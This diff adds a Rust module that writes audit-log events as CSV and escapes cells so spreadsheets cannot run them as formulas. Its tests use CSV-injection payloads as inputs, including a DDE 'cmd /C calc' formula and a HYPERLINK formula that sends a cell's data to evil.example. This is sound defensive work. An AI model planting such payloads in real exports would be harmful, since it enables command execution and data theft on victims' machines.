@@ -1,0 +1,338 @@
+//! CSV (RFC 4180, UTF-8 without a byte order mark) that a spreadsheet opens without running what a stranger wrote into an
+//! event. Owns the columns, the quoting and the escape; an event's free objects are one cell of compact JSON each.
+//!
+//! # The escape
+//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@`, or with a form of these that is normalised to them
+//! (`＝`, `﹣`, …), for a formula, also behind white space or a quote, and also where a tab or a line end leads (OWASP,
+//! "CSV Injection"). A spreadsheet that expects semicolons ends cells where a `;`, tab or line end is, whatever is
+//! quoted: what follows one of these counts as a cell of its own.
+//!
+//! - In a cell of text, an apostrophe goes in front of each such beginning. `-5` and `-0.25`, which can only be numbers,
+//!   are left as they are.
+//! - In a cell of JSON (`permission`, `before`, `after`, `context`, `payload`, `metadata`), the semicolon before such a
+//!   beginning is written `\u003b`, which is the same JSON.
+//!
+//! To undo it, read the CSV, and in each cell of text remove one apostrophe at the very beginning, and one behind each
+//! `;`, tab, CR and LF, where the beginning without it is one that would be escaped. That gives back every text: what
+//! itself begins with an apostrophe before a formula was given another one. JSON needs no undoing.
+
+use std::borrow::Cow;
+
+use serde_json::value::RawValue;
+
+use super::fields::{Fields, Text, Thing};
+use crate::log::segment::{Line, LineHash};
+
+/// The header, in the order of [`write()`].
+const COLUMNS: [&str; 32] = [
+    "sequence",
+    "eventId",
+    "timestamp",
+    "occurredAt",
+    "type",
+    "action",
+    "organisationId",
+    "organisationName",
+    "entityId",
+    "entityName",
+    "entityType",
+    "principalId",
+    "principalName",
+    "principalType",
+    "principalEmail",
+    "parentEntityId",
+    "parentEntityName",
+    "parentEntityType",
+    "subjectId",
+    "subjectName",
+    "subjectType",
+    "clientType",
+    "ipAddress",
+    "userAgent",
+    "requestId",
+    "permission",
+    "before",
+    "after",
+    "context",
+    "payload",
+    "metadata",
+    "previousHash",
+];
+
+/// The last column, which is no field of the line: the SHA-256 of the line, the next line's `previousHash`.
+const HASH_COLUMN: &str = "hash";
+
+pub(super) fn header() -> String {
+    let mut header = COLUMNS.join(",");
+    header.extend([",", HASH_COLUMN, "\r\n"]);
+    header
+}
+
+pub(super) fn write(line: &Line, out: &mut String) {
+    let fields = Fields::of(line);
+    let context = fields.context();
+    out.push_str(&format!("{},{},{}", line.sequence(), line.id, line.recorded_at));
+    let none = Thing::default();
+    let thing = |out: &mut String, thing: &Thing<'_>| {
+        [&thing.id, &thing.name, &thing.entity_type].into_iter().for_each(|text| text_cell(out, text));
+    };
+    [&fields.occurred_at, &fields.kind, &fields.action].into_iter().for_each(|text| text_cell(out, text));
+    [&fields.organisation.id, &fields.organisation.name].into_iter().for_each(|text| text_cell(out, text));
+    thing(out, &fields.entity);
+    thing(out, &fields.principal);
+    text_cell(out, &fields.principal.email);
+    thing(out, fields.parent_entity.as_ref().unwrap_or(&none));
+    thing(out, fields.subject.as_ref().unwrap_or(&none));
+    for text in [&fields.client_type, &context.ip_address, &context.user_agent, &context.request_id] {
+        text_cell(out, text);
+    }
+    for json in [fields.permission, fields.before, fields.after, fields.context, fields.payload, fields.metadata] {
+        json_cell(out, json);
+    }
+    text_cell(out, &fields.previous_hash);
+    cell(out, &LineHash::of(&line.text).to_string());
+    out.push_str("\r\n");
+}
+
+fn text_cell(out: &mut String, text: &Text<'_>) {
+    cell(out, &defuse_text(text.as_str()));
+}
+
+fn json_cell(out: &mut String, json: Option<&RawValue>) {
+    cell(out, &defuse_json(json.map_or("", RawValue::get)));
+}
+
+/// A comma and a cell, in quotes where a reader could take a part of it for something else.
+fn cell(out: &mut String, content: &str) {
+    out.push(',');
+    let blank_edge = content.starts_with(char::is_whitespace) || content.ends_with(char::is_whitespace);
+    if !blank_edge && !content.contains([',', ';', '"', '\t', '\r', '\n']) {
+        out.push_str(content);
+        return;
+    }
+    out.push('"');
+    for (index, part) in content.split('"').enumerate() {
+        if index > 0 {
+            out.push_str("\"\"");
+        }
+        out.push_str(part);
+    }
+    out.push('"');
+}
+
+/// What is in front of a cell.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Before {
+    /// A comma, or nothing.
+    Cell,
+    /// A character within a cell that some spreadsheets end a cell with.
+    Separator,
+}
+
+fn defuse_text(text: &str) -> Cow<'_, str> {
+    let may_fire = |character| is_formula(character) || is_line_or_tab(character);
+    if !text.contains(may_fire) || is_negative_number(text) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 1);
+    let mut before = Before::Cell;
+    for part in text.split_inclusive(is_separator) {
+        if fires(part, before) {
+            out.push('\'');
+        }
+        out.push_str(part);
+        before = Before::Separator;
+    }
+    Cow::Owned(out)
+}
+
+fn defuse_json(json: &str) -> Cow<'_, str> {
+    if !json.split(';').skip(1).any(|rest| fires(rest, Before::Separator)) {
+        return Cow::Borrowed(json);
+    }
+    let mut out = String::with_capacity(json.len() + 8);
+    for (index, part) in json.split(';').enumerate() {
+        if index > 0 {
+            // A semicolon can only be in a string, and never behind the backslash of an escape.
+            out.push_str(if fires(part, Before::Separator) { r"\u003b" } else { ";" });
+        }
+        out.push_str(part);
+    }
+    Cow::Owned(out)
+}
+
+/// Whether a cell that begins so may be taken for a formula. `text` ends with the separator that ends it, if any.
+fn fires(text: &str, before: Before) -> bool {
+    let lead = |character: &char| !is_separator(*character) && is_lead(*character);
+    match text.chars().find(|character| !lead(character)) {
+        Some(character) if is_line_or_tab(character) => before == Before::Cell,
+        Some(character) => is_formula(character),
+        None => false,
+    }
+}
+
+fn is_separator(character: char) -> bool {
+    character == ';' || is_line_or_tab(character)
+}
+
+fn is_line_or_tab(character: char) -> bool {
+    matches!(character, '\t' | '\r' | '\n')
+}
+
+/// The four, their small and full-width forms (Unicode, "Small Form Variants", "Halfwidth and Fullwidth Forms").
+fn is_formula(character: char) -> bool {
+    matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫')
+}
+
+/// What a spreadsheet, or what cleans text for one, may pass over: white space, quotes, what cannot be seen.
+fn is_lead(character: char) -> bool {
+    let quote = matches!(character, '"' | '\'' | '`' | '´' | '‘' | '’' | '‚' | '“' | '”' | '„' | '＂' | '＇');
+    let unseen = matches!(character, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}')
+        || matches!(character, '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
+    quote || unseen || character.is_whitespace() || character.is_control()
+}
+
+/// A negative number and nothing else: digits, and perhaps a point and digits.
+fn is_negative_number(text: &str) -> bool {
+    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
+    let Some(number) = text.strip_prefix('-') else { return false };
+    number.split_once('.').map_or_else(|| digits(number), |(whole, fraction)| digits(whole) && digits(fraction))
+}
+
+#[cfg(test)]
+pub(super) mod tests {
+    use super::*;
+    use crate::format::{Format, samples};
+    use proptest::prelude::*;
+
+    /// The text that a cell was made of, as the documentation of this module says.
+    pub(in crate::format) fn undo(cell: &str) -> String {
+        let mut before = Before::Cell;
+        let mut text = String::new();
+        for part in cell.split_inclusive(is_separator) {
+            let escaped = part.strip_prefix('\'').filter(|rest| fires(rest, before));
+            text.push_str(escaped.unwrap_or(part));
+            before = Before::Separator;
+        }
+        text
+    }
+
+    #[test]
+    fn an_event_is_a_record_below_the_header() {
+        insta::assert_snapshot!(Format::Csv.document(&samples::lines(&[samples::RICH, samples::MINIMAL])), @r#"
+        sequence,eventId,timestamp,occurredAt,type,action,organisationId,organisationName,entityId,entityName,entityType,principalId,principalName,principalType,principalEmail,parentEntityId,parentEntityName,parentEntityType,subjectId,subjectName,subjectType,clientType,ipAddress,userAgent,requestId,permission,before,after,context,payload,metadata,previousHash,hash
+        7,01a202b2-c57b-7000-8000-000001e08acc,2026-11-22T10:00:00.123Z,2026-11-22T11:59:58.5+02:00,user.role_changed,UPDATE,acme,"Acme, ""Ltd""",u2,"'=Ben; ""the"" Builder, 日本",USER,7,Ada,USER,ada@example.com,t1,Core,TEAM,k1,Key,API_KEY,UI,192.0.2.1,"Mozilla/5.0 (X11; Linux)",r-1,"{""permissions"":[{""id"":""p1"",""friendlyId"":""read""}]}","{""role"":""editor"",""limit"":12345678901234567890123}","{""role"":""owner\u003b=1+1""}","{""ipAddress"":""192.0.2.1"",""userAgent"":""Mozilla/5.0 (X11; Linux)"",""requestId"":""r-1"",""location"":""Oslo""}","{""method"":""PUT"",""path"":""/users/u2"",""queryString"":""a=1"",""referer"":""https://app.example/"",""n"":1.50}","{""ticket"":""T-1""}",0000000000000000000000000000000000000000000000000000000000000000,fdb97f4b4728aee5913a5511fc4e2d5d16abe3b5b75cfec0b2749107dc1197cb
+        8,01a202b2-c57b-7001-8000-000001e08acc,2026-11-22T10:00:00.123Z,,mock_api.create,CREATE,acme,"Acme, ""Ltd""",m1,,MOCK_API,ci,,ROBOT,,,,,,,,API,,,,,,,,,,fdb97f4b4728aee5913a5511fc4e2d5d16abe3b5b75cfec0b2749107dc1197cb,4303f06daa05f071c6b0d6162aeaf4149b7a4cfa981af85233c9065a0a2ac08a
+        "#);
+    }
+
+    #[test]
+    fn what_a_spreadsheet_would_run_is_text() {
+        for (text, expected) in [
+            ("=1+1", "'=1+1"),
+            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("\t=1", "'\t'=1"),
+            ("\r=1", "'\r'=1"),
+            ("\n=1", "'\n'=1"),
+            ("\tplain", "'\tplain"),
+            (" =1", "' =1"),
+            ("\u{a0}=1", "'\u{a0}=1"),
+            ("\u{feff}=1", "'\u{feff}=1"),
+            ("\u{200b}=1", "'\u{200b}=1"),
+            ("\0=1", "'\0=1"),
+            ("\"=1\"", "'\"=1\""),
+            ("'=1", "''=1"),
+            ("''=1", "'''=1"),
+            ("\" =1", "'\" =1"),
+            ("＝1+1", "'＝1+1"),
+            ("＋1", "'＋1"),
+            ("－1", "'－1"),
+            ("＠SUM(1)", "'＠SUM(1)"),
+            ("﹦1", "'﹦1"),
+            ("a;=1+1", "a;'=1+1"),
+            ("a;\"=1+1", "a;'\"=1+1"),
+            ("a\n- b\n\n- c", "a\n'- b\n\n'- c"),
+            ("a\t@b", "a\t'@b"),
+            ("+49 151 2345678", "'+49 151 2345678"),
+            ("-", "'-"),
+            ("-1-1", "'-1-1"),
+            ("-1e5", "'-1e5"),
+            ("-.5", "'-.5"),
+            ("'-5", "''-5"),
+        ] {
+            assert_eq!(defuse_text(text), expected, "{text:?}");
+            assert_eq!(undo(expected), text);
+        }
+    }
+
+    #[test]
+    fn what_no_spreadsheet_would_run_is_left_as_it_is() {
+        for text in [
+            "",
+            "-5",
+            "-0.25",
+            "12",
+            "1e5",
+            "a=b",
+            "ada@example.com",
+            "m-1",
+            "'quoted'",
+            "it's",
+            "a; b",
+            "a\nb",
+            "a, =b",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:144.0)",
+            "2026-11-22T10:00:00Z",
+            "café – crème",
+            "日本語",
+            "  x  ",
+        ] {
+            assert_eq!(defuse_text(text), text);
+            assert_eq!(undo(text), text);
+        }
+    }
+
+    #[test]
+    fn json_stays_the_same_json() {
+        for (json, expected) in [
+            (r#"{"a":"=1"}"#, r#"{"a":"=1"}"#),
+            (r#"{"a":"x;=1","b":"x; y","c":";"}"#, r#"{"a":"x\u003b=1","b":"x; y","c":";"}"#),
+            (r#"{"a;-b":"\\;\u0020@"}"#, r#"{"a\u003b-b":"\\;\u0020@"}"#),
+        ] {
+            assert_eq!(defuse_json(json), expected);
+            let value = |json: &str| serde_json::from_str::<serde_json::Value>(json).unwrap();
+            assert_eq!(value(json), value(expected));
+        }
+    }
+
+    #[test]
+    fn commas_quotes_and_line_ends_are_kept_within_their_cell() {
+        let mut out = String::new();
+        for content in ["plain", "a,b", "say \"hi\"", "a\r\nb", " edge", "a;b", ""] {
+            cell(&mut out, content);
+        }
+        assert_eq!(out, ",plain,\"a,b\",\"say \"\"hi\"\"\",\"a\r\nb\",\" edge\",\"a;b\",");
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(4096))]
+
+        #[test]
+        fn every_text_is_had_back_and_no_cell_of_any_dialect_is_a_formula(text in "[-=+@＝;'\" \t\r\n\u{feff}a1.]{0,12}") {
+            let cell = defuse_text(&text);
+            prop_assert_eq!(undo(&cell), text.clone());
+            prop_assert!(cell.len() == text.len() || cell.contains('\''));
+            // Whatever ends cells: none begins with a formula once the leading white space is gone.
+            for separators in [&[][..], &[';'], &['\t'], &['\r', '\n'], &[';', '\t', '\r', '\n']] {
+                for part in cell.split(separators) {
+                    let begins = part.trim_start_matches([' ', '"', '\u{feff}', '\t', '\r', '\n']).chars().next();
+                    prop_assert!(is_negative_number(&cell) || !begins.is_some_and(is_formula), "{:?} in {:?}", part, cell);
+                }
+            }
+        }
+    }
+}
